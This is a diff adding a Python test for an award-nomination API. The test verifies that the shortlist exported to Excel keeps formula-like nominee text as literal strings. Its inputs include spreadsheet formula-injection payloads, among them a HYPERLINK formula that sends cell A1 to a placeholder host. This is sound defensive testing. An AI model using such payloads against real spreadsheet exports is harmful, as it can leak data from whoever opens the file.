@@ -235,3 +235,39 @@ def test_the_shortlist_as_a_workbook(api, world):
     final = [[c.value for c in row] for row in book["Danh sách khen thưởng"].iter_rows()]
     assert final[0][0] == "DANH SÁCH KHEN THƯỞNG (DỰ THẢO)"
     assert [r[1] for r in final if r[0] == 1] == ["Công an tỉnh Nghệ An"]  # only approved ones
+
+
+def test_defect_2_unit_supplied_text_is_never_a_formula_in_the_workbook(api, world):
+    """A nominee named like a formula (or any text a spreadsheet would evaluate) is shown as written."""
+    from openpyxl import load_workbook
+
+    t, cid, admin = world["tokens"], world["conference"], world["admin"]
+    name = '=HYPERLINK("http://x/?d="&A1,"click")'
+    position = "@SUM(1+1) Đại tá"
+    achievements = "=1+1 Hoàn thành xuất sắc nhiệm vụ."  # (the API strips leading tabs and line breaks)
+    note = "=2*3"
+    person = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid, kind="individual", name=name, position=position,
+                      achievements=achievements)
+    assert person.status_code == 201, person.body
+    approved = api.post(f"/v1/nominations/{person.data['id']}/decision", token=admin,
+                        body={"decision": "approve", "note": note}, headers={"If-Match": person.headers["ETag"]})
+    assert approved.status_code == 200, approved.body
+    team = nominate(api, t["ca-ha-tinh"], "ca-ha-tinh", cid, name="+84 Đội phản ứng nhanh",
+                    achievements="-5 ca mắc mới sau một tuần.")
+    assert team.status_code == 201, team.body
+    resp = api.get(f"/v1/conferences/{cid}/shortlist", token=admin, headers={"Accept": XLSX})
+    assert resp.status_code == 200 and resp.headers["Content-Type"] == XLSX
+    book = load_workbook(io.BytesIO(resp.body))
+
+    ranked = {c.value: c for row in book["Xếp hạng"].iter_rows(min_row=4) for c in row if isinstance(c.value, str)}
+    for text in (name, position, note, "+84 Đội phản ứng nhanh"):
+        assert text in ranked, (text, sorted(ranked))
+        assert ranked[text].data_type == "s"
+    final = {c.value: c for row in book["Danh sách khen thưởng"].iter_rows() for c in row if isinstance(c.value, str)}
+    for text in (name, position, achievements):
+        assert text in final, (text, sorted(final))
+        assert final[text].data_type == "s"
+    for sheet in book.worksheets:  # nothing anywhere is a formula
+        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    # Excel keeps the text literal even when someone edits the cell (the quote prefix)
+    assert ranked[name].quotePrefix and final[name].quotePrefix and final[achievements].quotePrefix
